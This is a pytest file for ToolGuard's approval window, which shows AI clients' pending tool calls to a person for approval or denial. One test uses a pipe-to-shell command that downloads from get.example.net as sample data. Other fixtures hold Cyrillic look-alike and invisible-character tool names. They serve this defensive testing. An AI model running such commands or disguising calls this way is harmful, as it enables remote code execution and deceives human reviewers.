"""The page Pending: what a person sees, what they can press and when, and what never happens by itself."""

from __future__ import annotations

import asyncio
import time
from typing import Any

import pytest
from msgspec.structs import replace
from PySide6.QtCore import QEvent, QPoint, Qt
from PySide6.QtGui import QKeyEvent, QShortcut
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QLineEdit, QTextEdit

from tests.window.conftest import Stage, make_call, make_held, make_running, until
from toolguard.gate.model import Proposal
from toolguard.gate.policy.rules import RuleRequest
from toolguard.window.approval.armed_button import ARMING_DELAY_MS
from toolguard.window.queue.shortcuts import ShortcutOverride


@pytest.fixture
def stage(stage: Stage) -> Stage:
    """Denials are given at once here; that they wait for a while is what ``test_afterthought.py`` is about."""
    stage.pending.answers.denials.delay = 0
    return stage


CTRL = Qt.KeyboardModifier.ControlModifier
PROPOSAL = Proposal(
    id="p1",
    kind="server",
    title="Codex wants to use a new server",
    detail="npx -y\u200b x",
    asked_by="Codex",
    since=1.0,
)


def said(stage: Stage) -> str:
    """All that the shown call's passages say."""
    return "\n".join(each.toPlainText() for each in stage.pending.findChildren(QTextEdit) if each.isVisible())


async def test_pending_call_shows_client_tool_and_server(stage: Stage) -> None:
    await stage.show(held=(make_held(title="Write file", secrets=("TOKEN",), warnings=("It changed.",)),))
    heading = stage.pending.call.heading.sentence.said()
    assert heading == "Claude Desktop wants to run write_file “Write file” on files"
    stage.press("Details")
    await until(lambda: not stage.pending.call.details.facts.isHidden())
    words = said(stage)
    for expected in (
        "path  /tmp/a",
        "TOKEN",
        "It changed.",
        "/usr/bin/claude (process 4711)",
        "claude-ai 0.14",
        "Writes a file.",
    ):
        assert expected in words.replace("\u00a0", " "), expected
    assert "auto-denied in 4:5" in stage.pending.call.heading.below.text()


async def test_approve_is_armed_only_after_the_call_was_visible(stage: Stage) -> None:
    began = time.monotonic()
    await stage.show(held=(make_held(),))
    assert not stage.find("Approve write_file").isEnabled()
    stage.press("Approve write_file")
    stage.keys(Qt.Key.Key_Return, CTRL)
    button = await stage.armed("Approve write_file")
    assert time.monotonic() - began >= ARMING_DELAY_MS / 1000
    assert stage.gate.orders == []
    QTest.mouseClick(button, Qt.MouseButton.LeftButton)
    await until(lambda: stage.gate.orders)
    held = stage.gate.now.held[0]
    assert stage.gate.orders == [("approve", "c1", held.call.digest, None)]


async def test_delay_restarts_for_each_call_and_when_the_window_returns(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2", "delete_file")))
    await stage.armed("Approve write_file")
    stage.pending.choose("c2")
    assert not stage.find("Approve delete_file").isEnabled()
    await stage.armed("Approve delete_file")
    stage.window.hide()
    assert not stage.pending.call.decision.can_run()
    stage.window.show()
    assert not stage.pending.call.decision.can_run()
    await stage.armed("Approve delete_file")
    stage.window.turn("active")
    assert not stage.pending.call.decision.can_run()
    stage.window.turn("pending")
    assert not stage.pending.call.decision.can_run()


async def test_approve_is_never_armed_in_a_hidden_window(stage: Stage) -> None:
    stage.window.hide()
    await stage.show(held=(make_held(),))
    await asyncio.sleep(ARMING_DELAY_MS / 1000 * 1.5)
    assert not stage.pending.call.decision.can_run()


async def test_banner_that_moves_the_buttons_disarms_them(stage: Stage) -> None:
    await stage.show(held=(make_held(),))
    await stage.armed("Approve write_file")
    await stage.show(held=stage.gate.now.held, trouble=("The disk is full: free some space.",))
    await until(lambda: not stage.find("Approve write_file").isEnabled())
    await stage.armed("Approve write_file")


async def test_change_of_the_shown_call_disarms_the_buttons(stage: Stage) -> None:
    held = make_held()
    await stage.show(held=(held,))
    await stage.armed("Approve write_file")
    stage.find("Reason for denying").setText("half a reason")
    await stage.show(held=(make_held(since=held.call.since, warnings=("The definition changed.",)),))
    assert not stage.find("Approve write_file").isEnabled()
    assert stage.find("Reason for denying").text() == "half a reason"


async def test_arriving_call_changes_neither_focus_nor_selection_nor_layout(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"),))
    await stage.armed("Approve write_file")
    reason = stage.find("Reason for denying")
    reason.setFocus()
    reason.setText("typing")
    places = {
        name: stage.find(name).mapTo(stage.window, QPoint()) for name in ("Approve write_file", "Deny", "Pending calls")
    }
    card = stage.pending.list.visualRect(stage.pending.queue.index(0))
    await stage.show(held=(stage.gate.now.held[0], make_held("c2", "delete_file", since=time.time() - 999)))
    assert QApplication.focusWidget() is reason
    assert reason.text() == "typing"
    assert stage.find("Approve write_file").isEnabled()
    assert {name: stage.find(name).mapTo(stage.window, QPoint()) for name in places} == places
    assert stage.pending.list.visualRect(stage.pending.queue.index(0)) == card
    assert stage.pending.list.currentIndex().row() == 0


async def test_no_button_is_default_and_enter_decides_nothing(stage: Stage) -> None:
    await stage.show(held=(make_held(),))
    await stage.armed("Approve write_file")
    assert not stage.find("Approve write_file").isDefault()
    assert not stage.find("Approve write_file").autoDefault()
    assert not stage.find("Deny").autoDefault()
    for where in ("Pending calls", "Remember for: this decision"):
        stage.find(where).setFocus()
        QTest.keyClick(stage.find(where), Qt.Key.Key_Return)
        QTest.keyClick(stage.find(where), Qt.Key.Key_Enter)
    assert stage.gate.orders == []


async def test_withdrawn_call_is_shown_in_place(stage: Stage) -> None:
    first, second = make_held("c1"), make_held("c2", "delete_file")
    await stage.show(held=(first, second))
    await stage.armed("Approve write_file")
    await stage.show(held=(second,))
    assert not stage.sees("Approve write_file")
    assert not stage.sees("Approve delete_file")
    assert "You can no longer decide" in stage.pending.call.decision.gone.text()
    assert "path  /tmp/a" in said(stage).replace("\u00a0", " ")
    stage.keys(Qt.Key.Key_Return, CTRL)
    stage.keys(Qt.Key.Key_D, CTRL)
    assert stage.gate.orders == []
    assert stage.pending.queue.rowCount() == 2
    stage.press("Show the next pending item")
    assert stage.sees("Approve delete_file")
    assert stage.pending.queue.rowCount() == 1


async def test_call_approved_elsewhere_is_shown_as_running(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"),))
    await stage.show(running=(make_running("c1"),), running_count=1)
    assert stage.pending.call.decision.gone.text() == "This call was approved and is running."
    assert not stage.find("Show the next pending item").isEnabled()
    await until(lambda: stage.pending.queue.rowCount() == 0)
    assert stage.pending.left.ended.words.text() == "write_file: This call was approved and is running."


async def test_denial_sends_its_reason_and_shows_the_next_call(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2", "delete_file")))
    stage.find("Reason for denying").setText("  not this folder ")
    stage.press("Deny")
    await until(lambda: stage.gate.orders)
    assert stage.gate.orders == [("deny", "c1", "not this folder", None)]
    await until(lambda: stage.sees("Approve delete_file"))
    assert stage.find("Reason for denying").text() == ""


async def test_deciding_and_navigating_work_by_keyboard_alone(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2", "delete_file"), make_held("c3", "move_file")))
    stage.keys(Qt.Key.Key_J, CTRL)
    assert stage.sees("Approve delete_file")
    stage.keys(Qt.Key.Key_K, CTRL)
    await stage.armed("Approve write_file")
    stage.keys(Qt.Key.Key_Return, CTRL)
    await until(lambda: stage.sees("Approve delete_file"))
    stage.keys(Qt.Key.Key_D, CTRL)
    await until(lambda: stage.sees("Approve move_file"))
    await until(lambda: len(stage.gate.orders) == 2)
    assert [order[:2] for order in stage.gate.orders] == [("approve", "c1"), ("deny", "c2")]


async def test_held_key_approves_only_one_call(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2")))
    await stage.armed("Approve write_file")
    keys = {each.key().toString(): each.autoRepeat() for each in stage.window.findChildren(QShortcut)}
    assert {name for name, repeats in keys.items() if repeats} == {"Ctrl+J", "Ctrl+K", "F6"}
    assert {"Ctrl+Return", "Ctrl+Enter", "Ctrl+D"} <= set(keys)


async def test_rule_is_created_only_on_request_and_only_for_this_call(stage: Stage) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2")))
    remember = stage.pending.call.decision.remember_choice
    stage.find("Remember for: this decision").click()
    await until(lambda: remember.is_known)
    remember.reaches["all"].click()
    remember.until.choose("always")
    assert "all tools of files" in stage.pending.call.decision.says.text()
    stage.press("Deny")
    await until(lambda: stage.gate.orders)
    remember_choice = RuleRequest(client="Claude Desktop", server="files", tool="*", verdict="deny", until="always")
    assert stage.gate.orders[0][:3] == ("deny", "c1", "")
    assert replace(stage.gate.orders[0][3], id="") == remember_choice
    await until(lambda: not stage.find("Remember for: this decision").isChecked())
    await until(lambda: remember.is_known)
    assert remember.reach == "call"
    assert not stage.find("Duration").isEnabled()


async def test_look_alike_is_marked_in_heading_row_view_and_properties(stage: Stage) -> None:
    """Defect A8: only a box below the buttons said it."""
    fake = make_held("c1", "wr\u0456te_file", {"p\u0430th": "/tmp"}, server="f\u0456les")
    await stage.show(held=(fake,))
    call = stage.pending.call
    assert "wr⟨\u0456 CYRILLIC⟩te_file on f⟨\u0456 CYRILLIC⟩les" in call.heading.sentence.said()
    marked = [piece for style, piece in call.heading.sentence._shown if style == "marked"]
    assert marked == ["⟨\u0456 CYRILLIC⟩"] * 2, "in the colour of caution, and in words"
    row = stage.pending.queue.index(0).data(Qt.ItemDataRole.AccessibleTextRole)
    assert row.startswith("wr⟨\u0456 CYRILLIC⟩te_file on f⟨\u0456 CYRILLIC⟩les")
    assert "p⟨\u0430 CYRILLIC⟩th" in said(stage)
    assert len([one for one in call.warnings.sentences() if "looks" in one or "look-alike" in one]) == 3
    assert "⟨\u0456 CYRILLIC⟩" in call.decision.run_button.accessibleName()
    rows = {
        row.name.text(): row.coded if row.said.isHidden() else row.said
        for row in (*call.facts._rows, *call.details.facts._rows)
    }
    assert rows["Tool"].said() == "wr⟨\u0456 CYRILLIC⟩te_file" and rows["Server"].said() == "f⟨\u0456 CYRILLIC⟩les"
    for name in ("Tool", "Server"):
        assert [piece for style, piece in rows[name]._shown if style == "marked"] == ["⟨\u0456 CYRILLIC⟩"]


async def test_gate_refusal_is_shown_beside_the_button(stage: Stage) -> None:
    stage.gate.answer = "The rule could not be saved, so nothing was decided: the disk is full"
    await stage.show(held=(make_held("c1"),))
    QTest.mouseClick(await stage.armed("Approve write_file"), Qt.MouseButton.LeftButton)
    await until(lambda: stage.pending.call.decision.says.text() == stage.gate.answer)
    assert stage.find("Deny").isEnabled()


async def test_hidden_characters_are_written_out_everywhere(stage: Stage) -> None:
    held = make_held(tool="wr\u0456te\u202efile", arguments={"path\u200b": "a\u202eb"}, title="x\u200e")
    await stage.show(held=(held,))
    words = said(stage) + stage.pending.call.heading.below.text()
    assert "\u202e" not in words and "\u200b" not in words and "\u200e" not in words
    assert "a⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩b" in words
    assert "path⟨U+200B ZERO WIDTH SPACE⟩" in words
    assert "The arguments contain invisible characters" in words
    assert "CYRILLIC SMALL LETTER" in words
    card = stage.pending.queue.index(0).data()
    assert "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩" in card
    stage.press("Arguments as JSON")
    assert "a⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩b" in said(stage)


async def test_other_members_of_the_request_are_shown(stage: Stage) -> None:
    held = make_held()
    held.call.message["params"]["inputResponses"] = {"q1": {"action": "accept"}}
    await stage.show(held=(held,))
    assert "inputResponses" in said(stage)


@pytest.mark.parametrize(
    "argument", ["x" * 1_000_000, "é\u200b" * 300_000, list(range(200_000))], ids=["text", "hidden", "list"]
)
@pytest.mark.case(27)
async def test_megabyte_call_opens_within_a_second(stage: Stage, argument: Any) -> None:
    await stage.show(held=(make_held("c1"), make_held("c2", "big", arguments={"content": argument, "last": "END"})))
    began = time.thread_time()
    stage.pending.choose("c2")
    stage.window.grab()
    assert time.thread_time() - began < 1
    assert not stage.pending.call.decision.can_run()
    await until(lambda: "END" in said(stage))
    assert stage.sees("Show all")


async def test_ten_megabytes_are_inspected_before_approval(stage: Stage) -> None:
    held = make_held("c1", arguments={"content": "x" * 10_000_000 + "\u202e"})
    await stage.show(held=(held,))
    began = time.monotonic()
    await stage.armed("Approve write_file")
    assert time.monotonic() - began >= ARMING_DELAY_MS / 1000
    assert "RIGHT-TO-LEFT OVERRIDE" in said(stage)
    stage.keys(Qt.Key.Key_Return, CTRL)
    await until(lambda: stage.gate.orders)
    assert stage.gate.orders[0][2] == held.call.digest


async def test_thousand_pending_calls_are_shown_and_scrolled(stage: Stage) -> None:
    many = tuple(make_held(f"c{number:04}", since=float(number)) for number in range(1000))
    began = time.thread_time()
    await stage.show(held=many)
    stage.window.grab()
    assert time.thread_time() - began < 1.5
    began = time.thread_time()
    stage.pending.list.scrollToBottom()
    stage.window.grab()
    assert time.thread_time() - began < 0.5
    assert stage.pending.queue.rowCount() == 1000
    assert stage.window.windowTitle() == "(1000) ToolGuard — 1000 pending calls"


async def test_proposal_is_shown_exactly_and_armed_after_the_delay(stage: Stage) -> None:
    await stage.show(proposals=(PROPOSAL,))
    assert not stage.find("Approve this change").isEnabled()
    assert "npx -y⟨U+200B ZERO WIDTH SPACE⟩ x" in said(stage)
    stage.press("Approve this change")
    assert stage.gate.orders == []
    QTest.mouseClick(await stage.armed("Approve this change"), Qt.MouseButton.LeftButton)
    await until(lambda: stage.gate.orders)
    assert stage.gate.orders == [("accept", "p1")]


async def test_proposal_text_is_shortened_only_in_the_list(stage: Stage) -> None:
    title = "Chat clients can use the server everything, and ToolGuard starts its command."
    stage.window.resize(1280, 800)
    await stage.show(proposals=(replace(PROPOSAL, title=title),))
    heading = stage.pending.proposal.heading
    assert heading.sentence.said() == title
    wide = heading.width()
    stage.window.resize(780, 800)
    await until(lambda: heading.width() < wide)
    assert heading.sentence.height() <= heading._most
    stage.window.resize(1280, 800)
    await until(lambda: heading.sentence.said() == title)


async def test_denied_proposal_reports_that_it_is_closed_now(stage: Stage) -> None:
    await stage.show(proposals=(PROPOSAL,))
    stage.press("Deny this change")  # it stands where Run does: a click that was meant for that one counts for nothing
    assert stage.gate.orders == []
    stage.keys(Qt.Key.Key_D, CTRL)
    await until(lambda: stage.gate.orders)
    assert stage.gate.orders == [("reject", "p1")]
    await until(lambda: stage.pending.queue.rowCount() == 0)  # the answer has been heard of
    await stage.show()
    await stage.show(proposals=(PROPOSAL,))
    await stage.show()
    assert "has ended" in stage.pending.proposal.heading.below.text()
    assert not stage.pending.proposal.can_accept()
    assert not stage.find("Show the next pending item").isEnabled()
    await until(lambda: stage.pending.queue.rowCount() == 0)
    assert len(stage.gate.orders) == 1
    assert "Codex wants to use a new server" in stage.pending.left.ended.words.text()


async def test_proposal_answered_elsewhere_is_not_shown_on_return(stage: Stage) -> None:
    call = make_held()
    await stage.show(proposals=(PROPOSAL,))
    stage.window.turn("servers")
    await stage.show()
    stage.window.turn("pending")
    assert stage.pending.queue.names() == []
    await stage.show(held=(call,))
    assert stage.pending.call.isVisible()
    stage.window.turn("servers")
    await stage.show(held=(call,), proposals=(PROPOSAL,))
    stage.window.turn("pending")
    assert stage.pending.call.isVisible()


async def test_identical_pending_calls_show_their_number(stage: Stage) -> None:
    await stage.show(held=(make_held(waiting=3),))
    assert stage.pending.call.heading.below.text().startswith("3 identical pending calls")


async def test_prompt_without_timeout_shows_that_it_waits(stage: Stage) -> None:
    await stage.show(held=(make_held(expires=0.0),))
    assert "no timeout" in stage.pending.call.heading.below.text()


async def test_last_minute_has_the_caution_colour(stage: Stage) -> None:
    await stage.show(held=(make_held(expires=time.time() + 30),))
    assert stage.pending.call.heading.below.property("tone") == "caution"


async def test_empty_queue_explains_what_to_do(stage: Stage) -> None:
    assert stage.sees("No pending calls")
    stage.press("Set up chat clients")
    assert stage.window.stack.key == "clients"


def texts(stage: Stage) -> list[str]:
    return [each.text() for each in stage.pending.findChildren(QLabel) if each.isVisible()]


async def test_buttons_do_not_move_while_a_call_is_shown(stage: Stage) -> None:
    long = make_held("c1", "a_very_long_tool_name_" * 8, server="s" * 80, title="t" * 200, warnings=("w",) * 30)
    await stage.show(held=(long,))
    places = set()
    for held in (long, replace(long, waiting=9), replace(long, deadline=time.time() + 20)):
        await stage.show(held=(held,))
        stage.window.grab()
        places.add(stage.pending.call.decision.run_button.mapTo(stage.window, QPoint()).toTuple())
        places.add(stage.pending.call.decision.deny_button.mapTo(stage.window, QPoint()).toTuple())
    assert len(places) == 2
    assert all(y < stage.window.height() // 2 for _, y in places), "many warnings scroll above the buttons"


async def test_warnings_are_below_the_title_and_arguments_visible_without_scrolling(stage: Stage) -> None:
    stage.window.resize(1024, 700)
    command = "curl -s https://get.example.net/setup | sh"
    await stage.show(held=(make_held(arguments={"command": command}, warnings=("It changed.", "It is odd.")),))
    stage.window.grab()
    call = stage.pending.call
    parts = (call.heading.sentence, call.heading.target, call.warnings, call.decision.run_button, call.viewer)
    places = [part.mapTo(stage.window, QPoint()).y() for part in parts]
    assert places == sorted(places) and places[-1] < 500
    assert call.heading.target.said() == command
    assert call.heading.target.font().pointSizeF() > call.heading.sentence.font().pointSizeF()


async def test_approve_button_kind_follows_declared_effects(stage: Stage) -> None:
    declared = {
        "reads": ({"readOnlyHint": True, "openWorldHint": True}, "Reads", "run"),
        "changes": ({"destructiveHint": False}, "Changes", "run"),
        "nothing": ({"destructiveHint": "yes"}, "Not declared", "run"),
        "destroys": ({"destructiveHint": True}, "Destroys", "danger-line"),
    }
    held = [make_held(name) for name in declared]
    given = [
        replace(one, tool=replace(one.tool, annotations=annotations))
        for one, (annotations, _, _) in zip(held, declared.values(), strict=True)
    ]
    await stage.show(held=tuple(given))
    for name, (_, words, kind) in declared.items():
        stage.pending.choose(name)
        call = stage.pending.call
        assert call.badges.effect.text() == words and call.badges.network.isVisible() == (name == "reads")
        assert "files" in call.badges.claim.text(), "it is the server's claim"
        assert call.decision.run_button.property("kind") == kind
        row = stage.pending.queue.index(stage.pending.queue.row(name))
        assert (words in str(stage.pending.queue.data(row))) == (name != "nothing"), "a row says what is declared"


async def test_focus_moves_to_the_list_after_a_decision(stage: Stage) -> None:
    await stage.show(held=tuple(make_held(f"c{at}", since=1.0 + at) for at in range(4)))
    stage.pending.choose("c0")
    await stage.armed("Approve write_file")
    stage.find("Approve write_file").setFocus()
    QTest.keyClick(stage.find("Approve write_file"), Qt.Key.Key_Space)
    await until(lambda: stage.gate.orders and stage.pending.shown == "c1")
    assert stage.pending.list.hasFocus()
    stage.press("Deny")
    await until(lambda: stage.pending.shown == "c2")
    assert stage.pending.list.hasFocus()


async def test_enter_in_the_reason_field_denies(stage: Stage) -> None:
    await stage.show(held=(make_held("c1", since=1.0), make_held("c2", since=2.0)))
    reason = stage.find("Reason for denying")
    reason.setFocus()
    QTest.keyClicks(reason, "not today")
    QTest.keyClick(reason, Qt.Key.Key_Return)
    await until(lambda: stage.gate.orders)
    assert stage.gate.orders == [("deny", "c1", "not today", None)]
    assert stage.pending.shown == "c2" and stage.pending.list.hasFocus()
    QTest.keyClick(stage.pending.list, Qt.Key.Key_Return)
    await asyncio.sleep(0)
    assert len(stage.gate.orders) == 1


async def test_no_button_is_highlighted_below_a_warning(stage: Stage) -> None:
    await stage.show(held=(make_held(warnings=("It changed.",)),))
    decision = stage.pending.call.decision
    assert not decision.run_button.property("kind") and not decision.deny_button.property("kind")


async def test_subject_of_a_call_follows_the_edited_arguments(stage: Stage) -> None:
    await stage.show(held=(make_held(arguments={"source": "/a", "destination": "/b"}),))
    target = stage.pending.call.heading.target
    assert target.said() == "/a → /b"
    stage.pending.call.begin_edit()
    assert not target.isVisible()
    stage.pending.call.end_edit()
    assert target.isVisible()


def test_sample_call_is_valid_on_the_wire() -> None:
    assert make_call().arguments == {"path": "/tmp/a"}


class Greedy(QLineEdit):
    """Takes every key for itself, as a line of text takes Ctrl+K and Ctrl+E on X11."""

    def event(self, event: QEvent) -> bool:
        if event.type() == QEvent.Type.ShortcutOverride:
            event.accept()
            return True
        return super().event(event)


async def test_page_keys_work_while_a_line_edit_has_the_focus(stage: Stage) -> None:
    line = Greedy(stage.pending)
    ShortcutOverride(stage.pending, line)
    for key, taken in ((Qt.Key.Key_K, False), (Qt.Key.Key_E, False), (Qt.Key.Key_V, True)):
        event = QKeyEvent(QEvent.Type.ShortcutOverride, key, CTRL)
        event.ignore()
        QApplication.sendEvent(line, event)
        assert event.isAccepted() is taken
